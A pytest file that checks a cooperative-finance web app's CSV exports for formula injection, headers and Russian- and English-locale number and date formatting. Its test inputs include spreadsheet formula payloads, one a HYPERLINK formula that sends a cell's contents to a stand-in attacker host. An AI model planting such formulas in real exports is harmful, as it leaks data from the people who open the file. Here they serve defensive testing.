"""Every CSV export, found from the URL map (every route that answers
text/csv, so that a new one cannot be forgotten), is written by the one CSV
writer: no cell a spreadsheet would run as a formula, negative amounts still
numbers, one `Content-Type: text/csv; charset=utf-8` and a filename; numbers
and dates as a spreadsheet in the group's language reads them (Russian Excel:
decimal comma, dd.MM.yyyy in the group's time zone)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import pytest
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from coop.csv_export import csv_amount, csv_date, needs_apostrophe, neutralise, unneutralise
from coop.groups.models import Group
from coop.ledger import services as ledger
from coop.ledger.models import Posting
from coop.suppliers.models import Supplier
from tests.conftest import login, post
from tests.factories import make_group, make_member, make_product, make_supplier
from tests.web.test_access_walk import _rules, _url, world  # noqa: F401  (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,1)", "-2+3",
            "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1"]
_PLAIN_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")


def test_the_writer_neutralises_formulas_and_keeps_numbers() -> None:
    for text in FORMULAS:
        cell = neutralise(text)
        assert cell.startswith("'") and unneutralise(cell) == text
    for number in ("-2,50", "-2.50", "1234", "0,5"):
        assert neutralise(number) == number
    assert not needs_apostrophe("Семена") and neutralise(None) == ""
    assert neutralise("-") == "'-" and neutralise("--5") == "'--5"


def _savings_meeting(session: Session, group: Group, treasurer) -> None:  # type: ignore[no-untyped-def]
    """The group holds a savings meeting (spec §10, M1): its indicators' CSV has a line."""
    from coop.savings import services as savings
    from tests.savings_factory import NAMES, SavingsWorld, example_settings, hold_meeting

    memberships = [make_member(session, group, name) for name in NAMES]
    cycle = savings.create_cycle(session, group, example_settings(), treasurer.user)
    members = [savings.enrol(session, cycle, m) for m in memberships]
    savings.set_key_holders(session, cycle, [memberships[i].id for i in (1, 2, 4)])
    savings.activate(session, cycle, group)
    hold_meeting(session, SavingsWorld(group, treasurer, memberships, cycle, members, []), 1)


def test_every_csv_export_is_safe(app_ctx: Flask, world, session: Session  # noqa: F811
                                  ) -> None:
    params = world["params"]
    someone = next(m for m in world["group"].memberships if m.id == params["membership_id"])
    treasurer = world["treasurer"].user
    ledger.record_payment(session, someone, amount=1000, method="cash", reference=FORMULAS[0],
                          idempotency_key="csv-export-test-0001", actor=treasurer)
    for sign, reason in zip((1, -1, 1), FORMULAS[1:4], strict=True):
        ledger.adjust_member(session, someone, amount=sign * 250, reason=reason,
                             actor=treasurer)
    supplier = session.get(Supplier, params["supplier_id"])
    make_product(session, supplier, name="=1+1", article_code="@A1", unit="-kg")
    _savings_meeting(session, world["group"], world["treasurer"])
    session.commit()

    client = app_ctx.test_client()
    login(client, world["treasurer"].user.email, "demo-password")
    exports = {}
    for rule in _rules(app_ctx):
        if "GET" in rule.methods and not rule.rule.startswith("/api/"):
            response = client.get(_url(rule, world))
            if response.mimetype == "text/csv":
                exports[rule.endpoint] = response
    assert {"ledger.statement_csv", "suppliers.export_catalog"} <= set(exports)
    seen = set()
    for endpoint, response in exports.items():
        assert response.status_code == 200, endpoint
        assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"], endpoint
        disposition = response.headers["Content-Disposition"]
        assert re.match(r'attachment; filename="[^"]+\.csv"', disposition), disposition
        text = response.get_data().decode("utf-8")
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
        assert len(rows) > 1, endpoint
        for row in rows:
            for cell in row:
                seen.add(cell)
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert _PLAIN_NUMBER.fullmatch(cell), f"{endpoint}: formula {cell!r}"
    # what was typed is there, neutralised; negative amounts stay numbers
    assert "'" + FORMULAS[0] in seen and "'-2+3" in seen and "'@SUM(A1)" in seen
    assert "'=1+1" in seen and "'-kg" in seen
    negatives = {c for c in seen if c.startswith("-") and _PLAIN_NUMBER.fullmatch(c)}
    assert "-2,50" in negatives, sorted(negatives)  # the demo group's Excel is Russian
    # every amount and date of every export as Russian Excel reads them
    assert not {c for c in seen if re.fullmatch(r"-?[0-9]+\.[0-9]+", c)}, "a decimal point"
    foreign_date = re.compile(r"\d{4}-\d{2}-\d{2}|\b\d{1,2}/\d{1,2}/\d{2}\b")
    assert not {c for c in seen if foreign_date.search(c)}, "a date"



def test_amounts_and_dates_as_the_group_s_spreadsheet_reads_them(app_ctx: Flask) -> None:
    with app_ctx.test_request_context():
        assert [csv_amount(n, "KGS", "ru") for n in (-250, 123450, 0)] == [
            "-2,50", "1234,50", "0,00"]
        assert csv_amount(-250, "KGS", "ky") == csv_amount(-250, "TJS", "tg") == "-2,50"
        assert csv_amount(-123450, "KGS", "en") == "-1234.50"
        assert neutralise(csv_amount(-250, "KGS", "ru")) == "-2,50"  # still a number
        assert csv_date(date(2026, 12, 2), "ru") == "02.12.2026"
        assert csv_date(date(2026, 12, 2), "en") == "2026-12-02"
        assert csv_date(None, "ru") == ""


def _statement_rows(client, group: Group, member) -> list[list[str]]:  # type: ignore[no-untyped-def]
    response = client.get(f"/groups/{group.id}/accounts/{member.id}/statement.csv")
    assert response.status_code == 200
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads Cyrillic
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize(("country", "currency", "language", "reader", "amount", "moment"), [
    ("KG", "KGS", "ru", "en", "-1234,50", "03.12.2026 05:30"),   # UTC+6
    ("TJ", "TJS", "tg", "ru", "-1234,50", "03.12.2026 04:30"),   # UTC+5
    ("KG", "KGS", "ky", "ky", "-1234,50", "03.12.2026 05:30"),
    ("KG", "KGS", "en", "ru", "-1234.50", "2026-12-03 05:30"),
])
def test_the_statement_csv_in_the_group_s_locale_and_time_zone(
        app_ctx: Flask, session: Session, country: str, currency: str, language: str,
        reader: str, amount: str, moment: str) -> None:
    group = Group(name=f"Группа {country}", country=country, currency=currency,
                  language=language)
    session.add(group)
    session.flush()
    treasurer = make_member(session, group, "Майрам", role="treasurer", locale=reader)
    member = make_member(session, group, "Айгүл")
    ledger.adjust_member(session, member, amount=123450, reason="Семена",
                         actor=treasurer.user)
    session.flush()
    posting = session.scalar(select(Posting).where(Posting.membership_id == member.id))
    posting.created_at = datetime(2026, 12, 2, 23, 30)  # UTC: the next day in Asia
    session.commit()
    client = app_ctx.test_client()
    login(client, treasurer.user.email)
    rows = _statement_rows(client, group, member)
    assert len(rows) == 3 and all(len(row) == 6 for row in rows)  # + the receipt
    assert rows[1][4] == ("0.00" if language == "en" else "0,00")  # the opening balance
    assert rows[2][0] == moment and rows[2][3] == amount and rows[2][4] == amount


@pytest.mark.parametrize("language", ["ru", "en"])
def test_the_catalog_export_reads_back_in_either_locale(app_ctx: Flask, session: Session,
                                                        language: str) -> None:
    from coop.suppliers.models import Product

    group = make_group(session, language=language)
    treasurer = make_member(session, group, "Майрам", role="treasurer")
    supplier = make_supplier(session, group, "Агро")
    seeds = make_product(session, supplier, "Семена", article_code="S-1", unit="kg",
                         granularity="0,5", pack_size="2,5", tiers="0 = 48,5\n50 = 42",
                         retail_price="60,25", weight_kg="1,75")
    seeds.seed_rate = 50
    make_product(session, supplier, "=1+1", article_code="-A2", unit="bag")
    session.commit()

    def catalog() -> list[tuple]:  # type: ignore[type-arg]
        session.expire_all()
        return [(p.article_code, p.name, p.unit, p.pack_size, p.granularity, p.weight_grams,
                 p.retail_price, p.seed_rate, [(t.min_qty, t.unit_price) for t in p.price_tiers])
                for p in session.scalars(select(Product).order_by(Product.id))]

    client = app_ctx.test_client()
    login(client, treasurer.user.email)
    url = f"/groups/{group.id}/suppliers/{supplier.id}"
    data = client.get(f"{url}/export.csv").get_data()
    lines = data.decode("utf-8-sig").splitlines()
    mark = "," if language == "ru" else "."
    # the pack's container is empty (these products name none); then the seed rate
    assert (f"S-1;Семена;kg;2{mark}5;0{mark}5;1{mark}75;60{mark}25;0=48{mark}5|50=42;;"
            f"0{mark}05") in lines
    assert any(line.startswith("'-A2;'=1+1;bag;") for line in lines)
    before = catalog()
    response = post(client, f"{url}/import", {"file": (io.BytesIO(data), "catalog.csv")},
                    content_type="multipart/form-data")
    assert response.status_code == 302
    assert catalog() == before
